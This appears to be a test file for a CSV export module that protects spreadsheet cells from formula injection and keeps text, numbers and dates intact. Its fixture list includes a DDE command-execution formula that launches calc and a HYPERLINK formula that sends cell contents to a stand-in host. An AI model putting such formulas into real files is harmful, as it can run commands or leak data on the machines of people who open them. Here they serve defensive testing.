import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  givenProfile,
  hasSpreadsheet,
  NO_SPREADSHEET,
  openInSpreadsheet,
} from '../../testing/doubles/spreadsheet.ts';
import { asText, asTime, BYTE_ORDER_MARK, csvLines, fromText } from './csvText.ts';

/** What somebody could be called, or a gateway say, so that a spreadsheet takes it for something else. */
const TEXTS = [
  '张三',
  "=cmd|' /C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1)',
  '+86 138',
  '-2+3',
  '@SUM(1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  -1',
  '"',
  '""',
  '"=1+1"',
  ',',
  'a,b',
  'a"b',
  'two\nlines',
  'two\r\nlines',
  "'",
  "'quoted",
  "''=1+1",
  '😀',
  '👨‍👩‍👧 一家',
  '007',
  '13800138000',
  '281234567890123456',
  '00000000000000000012',
  '１２３',
  '1e5',
  '12E4',
  '1/2',
  '3-4',
  '2026-05-20',
  '2026年5月8日',
  '5%',
  '¥12',
  '(12)',
  '1,234',
  '.5',
  '5.',
  'TRUE',
  'false',
  'Ⅷ',
  '٣',
  '#REF!',
  'May 5',
  'S-0187',
  '138****8000',
  '<b>&amp;</b>',
  ' lead and trail ',
  '',
];

/** The same in the middle of a text, behind what parts cells and rows where the separator is no comma. */
const WITHIN = [
  '王;=1+1;x',
  '王;"=1+1;x',
  '王;""=1+1;x',
  'a\n=1+1;x',
  'a\r=1+1;x',
  'a\r\n=1+1;x',
  'a\r\n"=1+1";x',
  'a\n =1+1;x',
  '王\t+1+1\tx',
  '王|@SUM(1)|x',
  "王;'=1+1",
  "王; '=1+1",
  "a\r'\n=1",
  'a\n\n-1',
  ';;=1',
];

const file = (rows: readonly (readonly (string | number)[])[]) => BYTE_ORDER_MARK + csvLines(rows);

/** LibreOffice keeps a lone return within a cell as the line break that it is. */
const withBreaks = (text: string) => text.replace(/\r\n?/g, '\n');

describe('a real spreadsheet', () => {
  const profile = givenProfile();

  test('understands every text as a text, and keeps each sign of it', async ({ skip }) => {
    if (!hasSpreadsheet()) skip(NO_SPREADSHEET);
    const rows = [['a', 'b'], ...TEXTS.map((text) => [asText(text), 'end'])];
    const cells = await openInSpreadsheet(profile, file(rows));
    expect(cells).toHaveLength(rows.length);
    for (const [index, text] of TEXTS.entries()) {
      const [cell, end] = cells[index + 1] ?? [];
      expect([text, cell?.kind, fromText(cell?.value ?? '')]).toEqual([
        text,
        'text',
        withBreaks(text),
      ]);
      expect(end?.value).toBe('end');
    }
  });

  test('calculates with what is not guarded, so that this would be seen', async ({ skip }) => {
    if (!hasSpreadsheet()) skip(NO_SPREADSHEET);
    const bare = ['=1+1', '13800138000', '007', '1/2', '１２３', ' 007', '="13800138000"'];
    const text = BYTE_ORDER_MARK + bare.map((one) => `"${one.replaceAll('"', '""')}"\r\n`).join('');
    const cells = await openInSpreadsheet(profile, text);
    expect(cells.map(([cell]) => cell?.kind)).toEqual([
      'formula',
      'number',
      'number',
      'number',
      'number',
      'number',
      'formula',
    ]);
  });

  test.for([';', '\t', '|'])(
    'calculates with nothing where it parts cells at another sign: %j',
    async (separator, { skip }) => {
      if (!hasSpreadsheet()) skip(NO_SPREADSHEET);
      const rows = [...TEXTS, ...WITHIN].map((text) => ['S-0001', asText(text), 'end']);
      const cells = await openInSpreadsheet(profile, file(rows), separator);
      expect(cells.flat().filter((cell) => cell?.kind === 'formula')).toEqual([]);
    },
  );

  test('reads a time as a time, and a count as a number', async ({ skip }) => {
    if (!hasSpreadsheet()) skip(NO_SPREADSHEET);
    const time = asTime(new Date(2026, 4, 20, 9, 5, 7).getTime());
    expect(time).toBe('2026-05-20 09:05:07');
    const [row] = await openInSpreadsheet(profile, file([[time, 3]]));
    // Days since 1899.
    expect(Number(row?.[0]?.value)).toBeCloseTo(46_162 + (9 * 3_600 + 5 * 60 + 7) / 86_400, 5);
    expect(row).toMatchObject([{ kind: 'number' }, { kind: 'number', value: '3' }]);
  });
});

test('a text that needs no guard has none', () => {
  for (const text of ['张三', 'Anna-Maria', 'O’Neill', '138****8000', '张*', '', 'isv.invalid'])
    expect(asText(text)).toBe(text);
});

test('every text comes back from its cell', () => {
  for (const text of [...TEXTS, ...WITHIN]) expect(fromText(asText(text))).toBe(text);
  const sign = fc.constantFrom(
    ';',
    '\t',
    '|',
    '\r',
    '\n',
    '\r\n',
    "'",
    '"',
    ' ',
    '=',
    '-',
    '＝',
    'a',
    '7',
  );
  fc.assert(
    fc.property(fc.array(sign), (signs) => {
      expect(fromText(asText(signs.join('')))).toBe(signs.join(''));
    }),
  );
});

test('each line ends as Windows ends it, and its cells are quoted', () => {
  expect(csvLines([['a"b', 1, 'c\nd']])).toBe('"a""b","1","c\nd"\r\n');
});

test('what a column has not guarded is guarded all the same', () => {
  expect(csvLines([['=1', '@a', '\ta']])).toBe('"\'=1","\'@a","\'\ta"\r\n');
});
